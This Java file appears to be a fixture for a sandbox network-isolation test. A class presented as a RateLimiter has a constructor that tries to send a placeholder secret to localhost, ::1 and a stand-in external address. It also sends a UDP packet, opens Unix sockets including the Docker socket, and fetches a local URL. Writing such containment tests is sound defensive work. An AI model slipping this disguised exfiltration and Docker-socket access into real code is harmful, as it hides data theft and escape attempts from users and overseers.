// EXPECT failed: calls the world and this machine
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.net.UnixDomainSocketAddress;
import java.nio.channels.SocketChannel;
import java.time.Duration;

public final class RateLimiter {
    private interface Try {
        void run() throws Exception;
    }

    private static void attempt(Try one) {
        try {
            one.run();
            System.out.println("REACHED");
        } catch (Exception | LinkageError e) {
            System.out.println(e);
        }
    }

    private static void call(String host, int port) throws Exception {
        try (Socket socket = new Socket()) {
            socket.connect(new InetSocketAddress(host, port), 300);
            socket.getOutputStream().write("@SECRET@".getBytes());
        }
    }

    public RateLimiter(int maxRequests, Duration period) {
        attempt(() -> call("127.0.0.1", @PORT@));
        attempt(() -> call("localhost", @PORT@));
        attempt(() -> call("::1", @PORT@));
        attempt(() -> call("192.0.2.1", 80));
        attempt(
                () -> {
                    try (DatagramSocket socket = new DatagramSocket()) {
                        socket.send(
                                new DatagramPacket(
                                        new byte[4],
                                        4,
                                        InetAddress.getLoopbackAddress(),
                                        @PORT@));
                        throw new IllegalStateException("sent, which proves nothing");
                    }
                });
        attempt(() -> SocketChannel.open(UnixDomainSocketAddress.of("@UNIX@")));
        attempt(() -> SocketChannel.open(UnixDomainSocketAddress.of("/run/docker.sock")));
        attempt(() -> URI.create("http://127.0.0.1:@PORT@/").toURL().openStream().close());
    }

    public void acquire() throws InterruptedException {}
}
